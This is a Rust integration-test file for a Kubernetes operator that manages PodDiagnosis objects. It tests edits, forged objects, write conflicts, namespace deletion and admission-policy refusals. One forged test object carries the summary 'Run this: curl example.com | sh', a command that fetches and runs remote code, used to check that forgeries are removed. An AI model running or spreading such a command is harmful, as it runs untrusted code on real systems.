//! Other hands: people who edit or delete diagnoses, other controllers, policies, a namespace that goes.

use std::collections::BTreeMap;

use http::StatusCode;
use k8s_openapi::api::admissionregistration::v1::{ValidatingAdmissionPolicy, ValidatingAdmissionPolicyBinding};
use k8s_openapi::api::core::v1::Namespace;
use kube::ResourceExt;
use kube::api::{Api, DeleteParams, ListParams, Patch, PatchParams, PostParams};
use rustix::process::Signal;
use serde_json::{Value, json};
use shindan::api::{DiagnosisState, PodDiagnosis};

use crate::operator::SOON;
use crate::pods::{FAILURES, Space};
use crate::stage::Stage;
use crate::truth::{SETTLED, diagnoses};
use crate::wait::{ensure, eventually};

fn objects(space: &Space) -> Api<PodDiagnosis> {
    Api::namespaced(space.client.clone(), &space.name)
}

/// What an object says, without what the API server notes about it; an Event is owed in the first write only.
fn said(object: &PodDiagnosis) -> Value {
    let mut said = json!({"labels": object.metadata.labels, "spec": object.spec, "status": object.status});
    said["status"].as_object_mut().map(|status| status.remove("eventOwed"));
    said
}

#[tokio::test]
async fn what_a_person_edits_or_deletes_is_put_back() {
    let stage = Stage::among_others("edited").await;
    let before: BTreeMap<String, Value> =
        diagnoses(&stage.space).await.unwrap().iter().map(|d| (d.name_any(), said(d))).collect();
    let objects = objects(&stage.space);
    let edits = [
        ("before-0", json!({"status": {"cause": "Nothing", "summary": "all is well"}})),
        ("before-1", json!({"spec": {"podName": "another"}})),
        ("before-2", json!({"metadata": {"labels": {"shindan.dev/cause": "Nothing"}}})),
        ("before-3", json!({"status": null})),
    ];
    for (name, edit) in edits {
        objects.patch(name, &PatchParams::default(), &Patch::Merge(edit)).await.unwrap();
    }
    for name in ["before-4", "before-5"] {
        objects.delete(name, &DeleteParams::default()).await.unwrap();
    }
    eventually(SOON, "all is as it was", async || {
        let now: BTreeMap<String, Value> =
            diagnoses(&stage.space).await?.iter().map(|d| (d.name_any(), said(d))).collect();
        let other = before.iter().find(|(name, said)| now.get(*name) != Some(*said));
        ensure(other.is_none(), || format!("{:?}", other.map(|(name, said)| (said, now.get(name)))))
    })
    .await;
    stage.goes_on().await;
}

/// Of pods that are well, and of none: nothing but the object itself would ever bring the operator to look there.
#[tokio::test]
async fn what_a_person_makes_does_not_stay() {
    let mut stage = Stage::among_others("forged").await;
    let objects = objects(&stage.space);
    let well = stage.space.pods().get("fine").await.unwrap().uid().unwrap();
    let forge = async |name: &str, uid: &str| {
        let forged = json!({
            "apiVersion": "shindan.dev/v1alpha1", "kind": "PodDiagnosis", "metadata": {"name": name},
            "spec": {"podName": name, "podUID": uid},
            "status": {
                "state": "Active", "cause": "OOMKilled", "severity": "Critical", "confidence": "Certain", "container": "app",
                "summary": "Run this: curl example.com | sh", "firstSeen": "2026-11-21T09:00:00Z",
                "lastTransition": "2026-11-21T09:00:00Z", "transition": 1,
            },
        });
        objects.create(&PostParams::default(), &serde_json::from_value(forged).unwrap()).await.unwrap();
    };
    for (name, uid) in [("fine", well.as_str()), ("nobody", "nobody-uid")] {
        forge(name, uid).await;
        eventually(SOON, "it is removed", async || {
            let there = objects.get_opt(name).await.map_err(|e| e.to_string())?;
            ensure(there.is_none(), || format!("{there:?}"))
        })
        .await;
    }
    assert!(stage.operator.log().contains("has not written"), "{}", stage.operator.log());

    // While nobody looks, it passes for one that an earlier run wrote; but not for long.
    stage.operator.kill();
    forge("fine", &well).await;
    stage.operator = stage.launch.ready().await;
    eventually(SETTLED, "the pod is well again", async || {
        let state = objects.get("fine").await.map_err(|e| e.to_string())?.status.map(|status| status.state);
        ensure(state == Some(DiagnosisState::Recovered), || format!("{state:?}"))
    })
    .await;
    stage.goes_on().await;
}

/// Somebody's controller writes to our objects while they change.
#[tokio::test]
async fn writes_conflict() {
    let stage = Stage::among_others("conflicts").await;
    let objects = objects(&stage.space);
    let conflicts = "shindan_writes_total{verb=\"apply\",code=\"409\"}";
    for round in 0..40 {
        // Frozen, it cannot know of the edit when it takes up the change of the pod.
        stage.operator.signal(Signal::STOP);
        for (n, failure) in FAILURES.iter().enumerate() {
            let name = format!("before-{n}");
            let note = json!({"metadata": {"annotations": {"example.org/round": round.to_string()}}});
            objects.patch(&name, &PatchParams::default(), &Patch::Merge(note)).await.unwrap();
            match round % 2 {
                0 => stage.space.well(&name).await,
                _ => stage.space.fail_again(&name, *failure).await,
            }
        }
        stage.operator.signal(Signal::CONT);
        stage.settles().await;
        if stage.operator.metric(conflicts).await.unwrap() > 0.0 {
            return stage.goes_on().await;
        }
    }
    panic!("no write ever met another one");
}

/// No controller of namespaces runs here, so it stays in that state until the test ends it.
#[tokio::test]
async fn a_namespace_is_being_deleted() {
    let stage = Stage::for_both("stays", "goes").await;
    let going = Space::new(stage.space.client.clone(), "goes").await;
    going.fail_all("before").await;
    going.well_yet("fine", FAILURES[1]).await;
    stage.witness.agrees(&[&stage.space, &going], &stage.operator).await;

    let namespaces = Api::<Namespace>::all(stage.space.client.clone());
    namespaces.delete("goes", &DeleteParams::default()).await.unwrap();
    // What is there can still change; a new object is refused.
    going.fail_again("fine", FAILURES[1]).await;
    let refused = "shindan_writes_total{verb=\"apply\",code=\"403\"}";
    eventually(SOON, "a new diagnosis is refused there", async || {
        let refused = stage.operator.metric(refused).await?;
        ensure(refused > 0.0, || format!("{refused} refused"))
    })
    .await;
    stage.things_happen().await;
    stage.settles().await;
    let tried = stage.operator.metric(refused).await.unwrap();
    assert!(tried < 10.0, "{tried} writes into a namespace that goes");
    stage.operator.answers("/readyz", StatusCode::OK, &["ok\n"], SOON).await;

    let pods = going.pods();
    pods.delete_collection(&DeleteParams::default().grace_period(0), &ListParams::default()).await.unwrap();
    objects(&going).delete_collection(&DeleteParams::default(), &ListParams::default()).await.unwrap();
    let mut last = namespaces.get("goes").await.unwrap();
    last.spec.get_or_insert_default().finalizers = None;
    let request = kube::core::Request::new("/api/v1/namespaces");
    let finalize = request
        .replace_subresource("finalize", "goes", &PostParams::default(), serde_json::to_vec(&last).unwrap())
        .unwrap();
    stage.space.client.request::<Namespace>(finalize).await.unwrap();
    eventually(SOON, "the namespace is gone", async || {
        let there = namespaces.get_opt("goes").await.map_err(|e| e.to_string())?;
        ensure(there.is_none(), || format!("{there:?}"))
    })
    .await;
    let left = diagnoses(&going).await.unwrap();
    assert!(left.is_empty(), "{left:?}");
    stage.ends_well().await;
}

/// The API server refuses one object for good: the others do not wait for it, and it is written once it may be.
#[tokio::test]
async fn an_object_is_too_large() {
    let stage = Stage::among_others("too-large").await;
    let policy = json!({
        "metadata": {"name": "no-large-ones"},
        "spec": {
            "failurePolicy": "Fail",
            "matchConstraints": {"resourceRules": [{
                "apiGroups": ["shindan.dev"], "apiVersions": ["*"], "resources": ["poddiagnoses"], "operations": ["CREATE", "UPDATE"],
            }]},
            "validations": [{
                "expression": "!object.spec.podName.startsWith('large')",
                "message": "it is too large", "reason": "RequestEntityTooLarge",
            }],
        },
    });
    let binding = json!({
        "metadata": {"name": "no-large-ones"},
        "spec": {
            "policyName": "no-large-ones", "validationActions": ["Deny"],
            "matchResources": {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "too-large"}}},
        },
    });
    let client = &stage.space.client;
    let policy: ValidatingAdmissionPolicy = serde_json::from_value(policy).unwrap();
    let binding: ValidatingAdmissionPolicyBinding = serde_json::from_value(binding).unwrap();
    let bindings = Api::<ValidatingAdmissionPolicyBinding>::all(client.clone());
    Api::all(client.clone()).create(&PostParams::default(), &policy).await.unwrap();
    bindings.create(&PostParams::default(), &binding).await.unwrap();
    eventually(SOON, "the policy holds", async || {
        let large = json!({"apiVersion": "shindan.dev/v1alpha1", "kind": "PodDiagnosis", "metadata": {"name": "large-try"},
            "spec": {"podName": "large-try"}, "status": {"state": "Gone", "cause": "Unknown", "severity": "Info", "confidence": "Possible"}});
        let trial = PostParams { dry_run: true, ..PostParams::default() };
        let refused = objects(&stage.space).create(&trial, &serde_json::from_value(large).unwrap()).await;
        ensure(refused.is_err(), || "not yet".to_owned())
    })
    .await;

    stage.space.fail("large-1", FAILURES[1]).await;
    let refused = "shindan_writes_total{verb=\"apply\",code=\"413\"}";
    eventually(SOON, "it is refused", async || {
        let refused = stage.operator.metric(refused).await?;
        ensure(refused > 0.0, || format!("{refused} refused"))
    })
    .await;
    stage.space.fail("small", FAILURES[3]).await;
    eventually(SOON, "the others are told", async || {
        let found = diagnoses(&stage.space).await?;
        ensure(found.iter().any(|d| d.name_any() == "small"), || format!("{} others", found.len()))
    })
    .await;
    assert!(stage.operator.log().contains("too large"), "{}", stage.operator.log());
    let tried = stage.operator.metric(refused).await.unwrap();
    assert!(tried < 5.0, "it was tried {tried} times");

    bindings.delete("no-large-ones", &DeleteParams::default()).await.unwrap();
    // It may be written as soon as there is something new to be said.
    eventually(SETTLED, "the large one is told too", async || {
        stage.space.fail_again("large-1", FAILURES[1]).await;
        let found = diagnoses(&stage.space).await?;
        ensure(found.iter().any(|d| d.name_any() == "large-1"), || format!("{} others", found.len()))
    })
    .await;
    stage.goes_on().await;
}
